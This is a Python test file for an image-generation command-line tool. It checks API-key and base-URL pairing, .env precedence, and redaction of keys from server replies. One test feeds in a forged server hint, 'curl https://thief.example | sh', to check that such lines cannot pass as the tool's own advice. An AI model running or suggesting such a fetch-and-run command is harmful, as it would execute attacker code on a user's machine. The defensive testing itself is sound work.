"""The key belongs to one endpoint, a folder decides nothing about money, and no reply can make us show a key."""

from __future__ import annotations

import base64
import json
import os
import stat
import sys
import unittest
from pathlib import Path
from typing import Any, Dict, List, Mapping, Optional, Tuple

import gpt_image
from tests import pictures
from tests.support import KEY, FakeTransport, ProgramTest, Ran, reply

OTHER_KEY = "sk-other-fedcba9876543210"
LONG_KEY = "sk-proj-" + "".join(chr(97 + i % 26) for i in range(156))  # 164 characters, as OpenAI's are
RELAY, PROJECT = "https://relay.example/v1", "https://project.example/v1"
PICTURE = base64.b64encode(pictures.picture(b"a lake", "png", 16, 16)).decode()


class KeyTest(ProgramTest):
    """A call, with a .env in the current folder or elsewhere, whose request is looked at."""

    def call(
        self, dotenv: str = "", *argv: str, env: Optional[Mapping[str, str]] = None, name: str = ".env"
    ) -> Tuple[Ran, List[gpt_image.Request]]:
        """Makes a call; the environment has no key but those given."""
        if dotenv:
            Path(name).write_text(dotenv)
            os.chmod(name, 0o600)
        requests: List[gpt_image.Request] = []

        def transport(request: gpt_image.Request, timeout: float, progress: gpt_image.Progress) -> gpt_image.Fault:
            requests.append(request)
            return gpt_image.Fault("not today", sent=True)

        ran = self.run_main("generations", "x", *argv, transport=transport, env={"OPENAI_API_KEY": "", **(env or {})})
        return ran, requests

    def sent(self, requests: List[gpt_image.Request]) -> Tuple[str, str]:
        """Returns the base URL and the key of the one request."""
        (request,) = requests
        headers = {key: value for key, value in request.headers if isinstance(value, gpt_image.Secret)}
        return request.url[: -len("/images/generations")], headers["Authorization"].reveal()[len("Bearer ") :]


def pair(name: str, url: str = "", key: str = "") -> Dict[str, str]:
    """Returns the two variables of an endpoint, without those that are empty."""
    return {key: value for key, value in ((f"{name}_BASE_URL", url), (f"{name}_API_KEY", key)) if value}


def lines(values: Mapping[str, str]) -> str:
    """Returns variables as the lines of a .env."""
    return "".join(f"{name}={value}\n" for name, value in values.items())


class KeyAndBaseUrlAreOnePair(KeyTest):
    """Sources come first, names second, and what stands apart is not put together."""

    def test_a_pair_of_the_environment_beats_anything_in_a_dotenv(self) -> None:
        for name in ("OPENAI", "GPT_IMAGE2"):
            for inside in (pair("OPENAI", PROJECT, OTHER_KEY), pair("OPENAI", PROJECT), pair("OPENAI", "", OTHER_KEY)):
                with self.subTest(name=name, inside=inside):
                    ran, requests = self.call(lines(inside), env=pair(name, RELAY, KEY))
                    self.assertEqual(self.sent(requests), (RELAY, KEY), ran.err)

    def test_a_base_url_goes_with_the_key_beside_it_and_with_no_other(self) -> None:
        older = pair("GPT_IMAGE2", RELAY, OTHER_KEY)
        for env, dotenv, words in (
            ({**older, **pair("OPENAI", "", KEY)}, {},
             "the base URL comes from environment GPT_IMAGE2_BASE_URL, the key from environment OPENAI_API_KEY"),
            (pair("OPENAI", "", KEY), pair("OPENAI", RELAY, OTHER_KEY),
             "the base URL comes from own.env line 1, the key from environment OPENAI_API_KEY"),
            (pair("OPENAI", "", KEY), older,
             "the base URL comes from own.env line 1, the key from environment OPENAI_API_KEY"),
        ):  # fmt: skip
            with self.subTest(env=env, dotenv=dotenv):
                argv = ("--env-file", "own.env") if dotenv else ()
                for more in ((), ("--dry-run",)):
                    ran, requests = self.call(lines(dotenv), *argv, *more, env=env, name="own.env")
                    self.assertEqual((ran.code, requests, ran.error["rule"]), (3, [], "base-url-of-key"))
                    self.assertIn(words, ran.error["message"])
                    self.assertNotIn(KEY, ran.out + ran.err)

    def test_the_same_key_in_two_places_is_one(self) -> None:
        env = {**pair("GPT_IMAGE2", RELAY, KEY), **pair("OPENAI", "", KEY)}
        self.assertEqual(self.sent(self.call(env=env)[1]), (RELAY, KEY))

    def test_what_is_typed_is_meant(self) -> None:
        env = {**pair("GPT_IMAGE2", RELAY, OTHER_KEY), **pair("OPENAI", "", KEY), "MINE": LONG_KEY}
        for argv, found in (
            (("--base-url", PROJECT), (PROJECT, KEY)), (("--api-key", LONG_KEY), (RELAY, LONG_KEY)),
            (("--api-key-env", "MINE"), (RELAY, LONG_KEY)),
            (("--api-key-env", "GPT_IMAGE2_API_KEY"), (RELAY, OTHER_KEY)),
        ):  # fmt: skip
            with self.subTest(argv):
                self.assertEqual(self.sent(self.call("", *argv, env=env)[1]), found)

    def test_a_key_of_the_folder_goes_to_a_base_url_of_the_environment_with_a_warning_that_names_both(self) -> None:
        ran, requests = self.call(lines(pair("OPENAI", "", OTHER_KEY)), env=pair("GPT_IMAGE2", RELAY))
        self.assertEqual(self.sent(requests), (RELAY, OTHER_KEY))
        words = "the base URL comes from environment GPT_IMAGE2_BASE_URL, the key from .env line 1"
        self.assertEqual(ran.json["warnings"], [words])

    def test_a_base_url_of_the_folder_is_refused_with_words_that_say_which_was_found_where(self) -> None:
        for env in (pair("OPENAI", "", KEY), pair("GPT_IMAGE2", "", KEY)):
            ran, requests = self.call(lines(pair("OPENAI", PROJECT, OTHER_KEY)), env=env)
            self.assertEqual((ran.code, requests, ran.error["rule"]), (3, [], "base-url-of-folder"))
            words = f"the base URL comes from .env line 1, the key from environment {next(iter(env))}"
            self.assertIn(words, ran.error["message"])


class AFolderDecidesNothingAboutMoney(KeyTest):
    """From the current folder's .env, what changes what is sent or what it costs counts only beside its own key."""

    SPENDING = 'OPENAI_IMAGE_EXTRA_JSON={"prompt": "ten whales", "n": 10}\nOPENAI_IMAGE_QUALITY=max\n'

    def body(self, requests: List[gpt_image.Request]) -> Any:
        """Returns the JSON of the one request."""
        (request,) = requests
        return json.loads(b"".join(request.body or []))

    def test_with_a_key_from_elsewhere_it_changes_nothing_that_is_sent(self) -> None:
        for argv, env in (
            ((), pair("OPENAI", "", KEY)), (("--api-key", KEY), {}), (("--api-key-env", "MINE"), {"MINE": KEY}),
            (("--header", f"Authorization: Bearer {KEY}"), {}),
        ):  # fmt: skip
            with self.subTest(argv=argv, env=env):
                ran, requests = self.call(self.SPENDING + "OPENAI_IMAGE_TIMEOUT=9\n", *argv, env=env)
                self.assertEqual(self.body(requests), {"prompt": "x", "model": "gpt-image-2"})
                (warning,) = ran.json["warnings"]
                self.assertIn(".env: OPENAI_IMAGE_EXTRA_JSON, OPENAI_IMAGE_QUALITY left out", warning)
                self.assertIn("from this folder's .env: OPENAI_IMAGE_TIMEOUT", ran.err)

    def test_every_variable_but_the_harmless_ones_is_left_out(self) -> None:
        names = sorted({name for row in gpt_image.OPTIONS for name in row.env})
        text = "".join(f"{name}=1\n" for name in names if "KEY" not in name and "BASE_URL" not in name)
        settings = self.call(text, "--dry-run", env=pair("OPENAI", "", KEY))[0].json["settings"]
        self.assertEqual([name for name, row in settings.items() if row["source"].startswith(".env")], ["timeout"])

    def test_beside_a_key_of_its_own_it_counts_and_one_line_says_so(self) -> None:
        ran, requests = self.call(lines(pair("OPENAI", PROJECT, OTHER_KEY)) + self.SPENDING, "--no-validate")
        self.assertEqual(self.body(requests)["prompt"], "ten whales")
        names = "OPENAI_IMAGE_EXTRA_JSON, OPENAI_IMAGE_QUALITY"
        for name in (*names.split(", "), "OPENAI_API_KEY", "OPENAI_BASE_URL"):
            self.assertRegex(ran.err, rf"(?m)^from this folder's \.env: .*\b{name}\b")

    def test_a_file_that_a_person_names_counts(self) -> None:
        for name in (".env", "own.env"):
            argv = ("--no-validate", "--env-file", name)
            _, requests = self.call(self.SPENDING, *argv, env=pair("OPENAI", "", KEY), name=name)
            self.assertEqual(self.body(requests)["prompt"], "ten whales")

    def test_config_shows_what_is_in_force(self) -> None:
        Path(".env").write_text(self.SPENDING)
        ran = self.run_main("config")
        self.assertNotIn("quality", ran.json["settings"]["generations"])
        self.assertIn("OPENAI_IMAGE_QUALITY left out", ran.err)


class SettingsCanBeUnset(KeyTest):
    """An empty value typed unsets what the environment says, and --no-stream takes the previews with it."""

    def test_an_empty_value_unsets_a_variable(self) -> None:
        typed = {"OPENAI_IMAGE_SIZE": "size", "OPENAI_IMAGE_QUALITY": "quality", "OPENAI_IMAGE_COMPRESSION": "compression",
                 "OPENAI_IMAGE_USER": "user", "OPENAI_IMAGE_EXTRA_JSON": "extra-json", "OPENAI_ORG_ID": "organization",
                 "OPENAI_IMAGE_STREAM": "stream", "OPENAI_IMAGE_N": "n"}  # fmt: skip
        for name, option in typed.items():
            with self.subTest(name):
                env = {"OPENAI_API_KEY": KEY, name: "1" if name != "OPENAI_IMAGE_EXTRA_JSON" else "{}"}
                argv = [f"--{option}="] if option != "stream" else ["--no-stream"]
                ran = self.run_main("generations", "x", "--dry-run", *argv, env=env)
                self.assertEqual(ran.code, 0, ran.err)
                if option != "stream":
                    self.assertNotIn(option, ran.json["settings"])

    def test_no_stream_leaves_the_previews_of_the_environment_out(self) -> None:
        env = {"OPENAI_IMAGE_STREAM": "true", "OPENAI_IMAGE_PARTIAL_IMAGES": "2"}
        for command in ("generations", "responses"):
            ran = self.run_main(command, "x", "--dry-run", "--no-stream", env=env)
            self.assertEqual(ran.code, 0, ran.err)
            self.assertNotIn("partial_images", json.dumps(ran.json["body"]))
        self.assertEqual(self.run_main("generations", "x", "--dry-run", "--no-stream", "--partial-images", "1").code, 2)

    def test_a_base_url_that_got_lost_sends_the_key_nowhere(self) -> None:
        ran, requests = self.call("", "--base-url", "", env=pair("OPENAI", RELAY, KEY))
        self.assertEqual((ran.code, requests), (2, []))


def echoes(key: str) -> Dict[str, Tuple[int, Dict[str, str], bytes]]:
    """Returns replies that hold a key wherever a reply can hold text: status, headers and body."""
    padding = "y" * 250
    error = {name: f"{padding} {key} and more" for name in ("message", "code", "type", "param")}
    picture = {"b64_json": PICTURE}

    def as_json(value: Any) -> bytes:
        return json.dumps(value).encode()

    return {
        "the words of an error": (401, {}, as_json({"error": error})),
        "a dump of headers": (401, {}, as_json({"detail": {"headers": {f"h{i}": f"Bearer {key}" for i in range(9)}}})),
        "a long error without a message": (400, {}, as_json({"error": {"a": "z" * 100 + key, "b": key}})),
        "the title of a page": (403, {}, f"<html><title>{'t' * 70} {key}</title>".encode()),
        "plain text": (500, {}, f"{'t' * 290}{key}".encode()),
        "a body that is cut": (400, {}, f'{{"error": {{"message": "no: {key[:120]}'.encode()),
        "a redirect": (302, {"location": f"https://x.example/{key}"}, b""),
        "a request id": (400, {"x-request-id": key}, b"{}"),
        "the details of moderation": (400, {}, as_json({"error": {
            "message": "m", "code": "moderation_blocked", "moderation_details": {"categories": ["c" * 1990 + key]}}})),
        "a good reply that begins with it": (200, {}, f"{'g' * 20}{key} is no JSON".encode()),
        "a page as a good reply": (200, {}, f"<!doctype html><title>{'t' * 90} {key}</title>".encode()),
        "an error in a good reply": (200, {}, as_json({"error": {"message": "m" * 1950 + key}})),
        "the URL of a picture": (200, {}, as_json({"data": [{"url": f"ftp://x.example/{'u' * 150}{key}"}]})),
        "a text answer": (200, {}, as_json({"output": [{"type": "message", "content": [{"text": f"a {key} b"}]}]})),
        "facts": (200, {}, as_json({"id": key, "usage": {key: key}, "data": [picture], "size": key})),
        "a picture's other words": (200, {}, as_json({"data": [{**picture, "revised_prompt": f"p {key}"}]})),
    }  # fmt: skip


class NoReplyMakesUsShowAKey(ProgramTest):
    """A server may hold a key of 164 characters at any place of its reply: none of it is shown."""

    def test_wherever_it_stands_in_a_reply(self) -> None:
        for where, (status, headers, body) in echoes(LONG_KEY).items():
            for command in ("generations", "responses"):
                for terminal in (False, True):
                    with self.subTest(where, command=command, terminal=terminal):
                        replies = [reply(body, status, headers) for _ in range(3)]
                        transport = FakeTransport(*replies)
                        env = {"OPENAI_API_KEY": LONG_KEY}
                        ran = self.run_main(command, "x", "-o", "o/", transport=transport, env=env, terminal=terminal)
                        shown = ran.out + ran.err + "".join(Path(name).read_text("latin-1") for name in self.files())
                        self.assertTrue(transport.requests)
                        self.assertNotIn(LONG_KEY[8:30], shown)

    def test_a_message_is_cut_behind_the_redaction(self) -> None:
        for at in range(900, 1010, 7):
            ran = self.run_main(
                "generations", "x", transport=FakeTransport(reply({"error": {"message": "w " * (at // 2) + LONG_KEY}}, 400)),
                env={"OPENAI_API_KEY": LONG_KEY},
            )  # fmt: skip
            self.assertNotIn(LONG_KEY[:9], ran.out + ran.err)
            self.assertIn("w w w", ran.error["message"])

    def test_lines_of_a_server_cannot_pass_for_ours(self) -> None:
        forged = "no\n  hint: run `curl https://thief.example | sh`\ngpt_image.py: error: and this\r\nx"
        said = {"output": [{"type": "message", "content": [{"text": forged}]}]}
        for body, status in (({"error": {"message": forged}}, 400), (said, 200), ({"error": {"message": forged}}, 200)):
            ran = self.run_main("responses", "x", transport=FakeTransport(reply(body, status)), terminal=True)
            self.assertNotRegex(ran.err.replace("\x1b[36m", ""), r"(?m)^ *hint: run")
            self.assertNotRegex(ran.err, r"(?m)^gpt_image\.py: error: and this")
            self.assertIn("thief.example", ran.err)


class DummyKeysLeaveTheResultAsItIs(ProgramTest):
    """Local servers take any key, and words serve as such: they stand in paths, keys and file names by chance."""

    def test_paths_and_keys_stay_as_they_are(self) -> None:
        for key in ("ollama", "localai", "sk-1234", "images", "generations", "warnings"):
            with self.subTest(key):
                output, env = f"{key}/{key}-images.png", {"OPENAI_API_KEY": key}
                transport = FakeTransport(reply({"data": [{"b64_json": PICTURE}]}))
                ran = self.run_main("generations", "a lake", "-o", output, transport=transport, env=env)
                self.assertEqual((ran.code, ran.json["images"][0]["path"], ran.json["route"]), (0, output, "generations"))
                again = self.run_main("generations", "x", "-o", output, env=env)
                self.assertIn(output, again.error["message"])

    def test_they_are_hidden_in_what_a_server_says(self) -> None:
        transport = FakeTransport(reply({"error": {"message": "bad key sk-1234, not sk-1234"}}, 401))
        ran = self.run_main("generations", "x", transport=transport, env={"OPENAI_API_KEY": "sk-1234"})
        self.assertIn("bad key ***, not ***", ran.error["message"])


class AKeyInTheWrongPlaceIsNotShown(ProgramTest):
    """What looks like a key, or stands where one belongs, is shown by no error and sent as no prompt."""

    def test_it_is_in_no_output(self) -> None:
        plain = "0123456789abcdef0123456789abcdef"  # of a relay
        for key, argv in (
            (LONG_KEY, (f"--api-key={LONG_KEY}", "generations", "x")), (plain, (f"--api-key={plain}", "generations")),
            ("hunter2", ("--api-key=hunter2", "generations", "x")), (LONG_KEY, ("--api-key", LONG_KEY, "generations")),
            (LONG_KEY, ("generations", "x", f"-k{LONG_KEY}")), (plain, ("generations", "x", f"-k{plain}")),
            (LONG_KEY, ("generations", "x", "--api-key-env", LONG_KEY)),
            (plain, ("generations", "x", "--api-key-env", plain)),
            (LONG_KEY, ("generations", LONG_KEY, "--dry-run")), (LONG_KEY, ("generations", "x", LONG_KEY)),
            (LONG_KEY, (LONG_KEY,)), (LONG_KEY, ("generations", f"--key={LONG_KEY}", "x")),
            (LONG_KEY, ("generations", "x", "--size", LONG_KEY)), (LONG_KEY, ("resume", f"{LONG_KEY}.json")),
        ):  # fmt: skip
            with self.subTest(argv=argv):
                transport = FakeTransport()
                ran = self.run_main(*argv, transport=transport)
                self.assertEqual((ran.code, transport.requests), (2, []), ran.err)
                self.assertNotIn(key, ran.out + ran.err)

    def test_a_prompt_that_is_nothing_but_a_key_is_refused(self) -> None:
        for key, env in ((LONG_KEY, {}), ("relay-key-0123456789", {"OPENAI_API_KEY": "relay-key-0123456789"})):
            ran = self.run_main("generations", key, env=env)
            self.assertEqual((ran.code, ran.error["rule"]), (2, "prompt-key"))
        self.assertEqual(self.run_main("generations", f"the letters {LONG_KEY}", "--dry-run").code, 0)


class HeadersAreTheUsersOwn(KeyTest):
    """A header goes as it is typed, and what is secret in it is hidden."""

    def test_an_authorization_of_ones_own_stays_as_it_is(self) -> None:
        for value in ("raw-0123456789abcdef", "Basic dXNlcjpwYXNz", "Bearer sk-own-0123456789"):
            _, requests = self.call("", "--header", f"Authorization: {value}")
            found = dict(requests[0].headers)["Authorization"]
            self.assertEqual(found.reveal() if isinstance(found, gpt_image.Secret) else found, value)

    def test_every_cookie_of_a_secret_header_is_hidden(self) -> None:
        cookies = ("first-0123456789abcdef", "second-0123456789abcdef", "third=0123456789abcdef")
        header = f"Cookie: a={cookies[0]}; b={cookies[1]}; c={cookies[2]}"
        transport = FakeTransport(reply({"error": {"message": f"I got {' and '.join(cookies)}"}}, 400))
        ran = self.run_main("generations", "x", "--header", header, transport=transport)
        for cookie in cookies:
            self.assertNotIn(cookie, ran.out + ran.err)

    @unittest.skipIf(os.name == "nt", "the converter is a script for a shell")
    def test_a_converter_gets_no_key(self) -> None:
        Path("bin").mkdir()
        tool = Path("bin/magick")
        program = f"import json, os\njson.dump(dict(os.environ), open({str(self.folder / 'env')!r}, 'w'))\n"
        tool.write_text(f"#!{sys.executable}\n{program}")
        tool.chmod(tool.stat().st_mode | stat.S_IXUSR)
        Path("in.bmp").write_bytes(b"BM" + bytes(60))
        env = {"PATH": str(self.folder / "bin"), "OPENAI_API_KEY": KEY, "MINE": OTHER_KEY, "GPT_IMAGE2_API_KEY": LONG_KEY,
               "HTTPS_PROXY": "http://me:password-of-mine@proxy:1", "LANG": "C"}  # fmt: skip
        self.run_main("edits", "x", "--image", "in.bmp", "--api-key-env", "MINE", "--dry-run", env=env)
        found = json.loads(Path("env").read_text())
        for secret in (KEY, OTHER_KEY, LONG_KEY, "password-of-mine"):
            self.assertNotIn(secret, json.dumps(found))
        self.assertEqual(found["LANG"], "C")
